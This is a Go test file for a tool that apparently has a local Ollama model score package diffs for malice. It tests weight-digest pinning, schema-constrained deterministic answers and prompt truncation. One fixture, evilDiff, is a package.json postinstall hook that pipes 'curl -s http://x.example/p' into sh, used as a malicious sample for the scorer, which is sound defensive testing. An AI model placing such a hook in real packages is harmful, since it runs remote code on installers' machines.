package models_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ollama/ollama/api"

	"github.com/vouchpm/vouch/models"
	"github.com/vouchpm/vouch/models/ollamatest"
)

// answerSchema is the JSON schema the scorer asks for (format).
const answerSchema = `{"type":"object","properties":{` +
	`"score":{"type":"integer","minimum":0,"maximum":100},` +
	`"verdict":{"type":"string","enum":["safe","suspicious","malicious"]},` +
	`"reasons":{"type":"array","items":{"type":"string"},"maxItems":5}},` +
	`"required":["score","verdict","reasons"]}`

type answer struct {
	Score   int      `json:"score"`
	Verdict string   `json:"verdict"`
	Reasons []string `json:"reasons"`
}

func chatRequest(m models.Manifest, diff string, opts map[string]any) *api.ChatRequest {
	stream := false
	return &api.ChatRequest{
		Model:   m.Name,
		Stream:  &stream,
		Format:  json.RawMessage(answerSchema),
		Options: opts,
		Messages: []api.Message{
			{Role: "system", Content: m.Prompt},
			{Role: "user", Content: "<<<BEGIN UNTRUSTED DIFF nonce=7f3a>>>\n" + diff + "<<<END UNTRUSTED DIFF nonce=7f3a>>>"},
		},
	}
}

func chat(tb testing.TB, c *api.Client, req *api.ChatRequest) api.ChatResponse {
	tb.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	var final api.ChatResponse
	var content strings.Builder
	err := c.Chat(ctx, req, func(r api.ChatResponse) error {
		content.WriteString(r.Message.Content)
		if r.Done {
			final = r
		}
		return nil
	})
	if err != nil {
		tb.Fatalf("chat with %s: %v", req.Model, err)
	}
	final.Message.Content = content.String()
	return final
}

const (
	benignDiff = "--- a/index.js\n+++ b/index.js\n@@ -1,3 +1,4 @@\n export function add(a, b) {\n-  return a+b\n+  return a + b\n }\n"
	evilDiff   = "--- a/package.json\n+++ b/package.json\n@@ -5,2 +5,3 @@\n   \"scripts\": {\n+    \"postinstall\": \"node -e \\\"require('child_process').exec('curl -s http://x.example/p | sh')\\\"\",\n"
)

// TestRealOllama drives the ollama server built from the pinned module
// with the generated tiny model: digest pin, deterministic JSON answers.
func TestRealOllama(t *testing.T) {
	s := ollamatest.Start(t)
	ctx := context.Background()

	t.Run("served digest is the pinned one", func(t *testing.T) {
		list, err := s.Client.List(ctx)
		if err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, lm := range list.Models {
			names = append(names, lm.Name+"@"+lm.Digest)
		}
		if want := []string{s.Manifest.Name + "@" + s.Manifest.WeightsDigest}; !slices.Equal(names, want) {
			t.Fatalf("/api/tags = %v, want %v (if the generator or ollama changed on purpose, re-pin models/tiny-test.json)", names, want)
		}
		if err := models.VerifyServedModel(ctx, s.Client, s.Manifest); err != nil {
			t.Fatal(err)
		}
	})

	t.Run("schema answer is deterministic", func(t *testing.T) {
		first := chat(t, s.Client, chatRequest(s.Manifest, evilDiff, s.Manifest.Options()))
		other := chat(t, s.Client, chatRequest(s.Manifest, benignDiff, s.Manifest.Options()))
		again := chat(t, s.Client, chatRequest(s.Manifest, evilDiff, s.Manifest.Options()))
		t.Logf("evil diff: %s (%d tokens, %v)", first.Message.Content, first.EvalCount, first.TotalDuration)
		t.Logf("benign diff: %s", other.Message.Content)
		if first.Message.Content != again.Message.Content {
			t.Fatalf("same request, different answers:\n%s\n%s", first.Message.Content, again.Message.Content)
		}
		if first.Message.Content == other.Message.Content {
			t.Errorf("the diff did not influence the answer: %s", first.Message.Content)
		}
		for _, r := range []api.ChatResponse{first, other} {
			if r.DoneReason != "stop" {
				t.Errorf("done_reason = %q, want stop (answer %q)", r.DoneReason, r.Message.Content)
			}
			var a answer
			dec := json.NewDecoder(strings.NewReader(r.Message.Content))
			dec.DisallowUnknownFields()
			if err := dec.Decode(&a); err != nil {
				t.Fatalf("answer %q does not match the schema: %v", r.Message.Content, err)
			}
			if a.Score < 0 || a.Score > 100 || !slices.Contains([]string{"safe", "suspicious", "malicious"}, a.Verdict) || len(a.Reasons) > 5 {
				t.Errorf("answer outside the schema: %+v", a)
			}
		}
		if err := models.VerifyRunningModel(ctx, s.Client, s.Manifest); err != nil {
			t.Errorf("after chat: %v", err)
		}
	})

	t.Run("a prompt over num_ctx is cut silently", func(t *testing.T) {
		// ollama answers 200 and only logs "truncating input prompt": it
		// keeps the first few tokens and the tail, dropping the system
		// prompt. prompt_eval_count == num_ctx is the one visible sign, and
		// the scorer must treat it as a part the model did not see whole.
		opts := s.Manifest.Options()
		opts["num_ctx"] = 512
		r := chat(t, s.Client, chatRequest(s.Manifest, benignDiff, opts))
		if r.PromptEvalCount != 512 {
			t.Errorf("prompt of ~2.4K tokens with num_ctx 512: prompt_eval_count = %d, want 512", r.PromptEvalCount)
		}
	})

	t.Run("num_predict cuts the JSON", func(t *testing.T) {
		opts := s.Manifest.Options()
		opts["num_predict"] = 6
		r := chat(t, s.Client, chatRequest(s.Manifest, evilDiff, opts))
		if r.DoneReason != "length" || json.Valid([]byte(r.Message.Content)) {
			t.Errorf("num_predict 6: done_reason %q, answer %q; want length and invalid JSON", r.DoneReason, r.Message.Content)
		}
	})
}

// TestRealOllamaSwappedWeights replaces the weights under the pinned tag,
// as a compromised host could, and checks the verification refuses them.
func TestRealOllamaSwappedWeights(t *testing.T) {
	s := ollamatest.Start(t)
	ctx := context.Background()
	if err := models.VerifyServedModel(ctx, s.Client, s.Manifest); err != nil {
		t.Fatalf("before the swap: %v", err)
	}
	chat(t, s.Client, chatRequest(s.Manifest, benignDiff, s.Manifest.Options())) // load the pinned model

	swapped := s.CreateTiny(s.Manifest.Name, ollamatest.TinySeed+1)
	if swapped == s.Manifest.WeightsDigest {
		t.Fatalf("seed %d gave the pinned digest %s", ollamatest.TinySeed+1, swapped)
	}
	err := models.VerifyServedModel(ctx, s.Client, s.Manifest)
	var mm *models.DigestMismatchError
	if !errors.Is(err, models.ErrDigestMismatch) || !errors.As(err, &mm) || mm.Got != swapped {
		t.Fatalf("VerifyServedModel after swap = %v, want ErrDigestMismatch reporting %s", err, swapped)
	}
	// The running-model check catches it too once the new weights answer.
	chat(t, s.Client, chatRequest(s.Manifest, benignDiff, s.Manifest.Options()))
	if err := models.VerifyRunningModel(ctx, s.Client, s.Manifest); !errors.Is(err, models.ErrDigestMismatch) {
		t.Fatalf("VerifyRunningModel after swap = %v, want ErrDigestMismatch", err)
	}
}

// BenchmarkChatRoundTrip measures one scoring-sized chat (system prompt,
// a ~1 KB diff, schema-constrained answer) through the real server. Each
// iteration sends a different diff, so only the system prompt is cached.
func BenchmarkChatRoundTrip(b *testing.B) {
	s := ollamatest.Start(b)
	diff := strings.Repeat(benignDiff, 1024/len(benignDiff)+1)
	chat(b, s.Client, chatRequest(s.Manifest, diff, s.Manifest.Options())) // load
	var tokens, promptTokens int
	var promptTime, answerTime time.Duration
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		r := chat(b, s.Client, chatRequest(s.Manifest, fmt.Sprintf("// change %d\n%s", i, diff), s.Manifest.Options()))
		tokens += r.EvalCount
		promptTokens += r.PromptEvalCount
		promptTime += r.PromptEvalDuration
		answerTime += r.EvalDuration
	}
	n := float64(b.N)
	b.ReportMetric(float64(tokens)/n, "answer-tokens/op")
	b.ReportMetric(float64(promptTokens)/n, "prompt-tokens/op")
	// Where the time goes, as the server reports it: reading the prompt
	// versus generating the answer; the rest is HTTP, templating, grammar.
	b.ReportMetric(float64(promptTime.Milliseconds())/n, "prompt-ms/op")
	b.ReportMetric(float64(answerTime.Milliseconds())/n, "answer-ms/op")
}
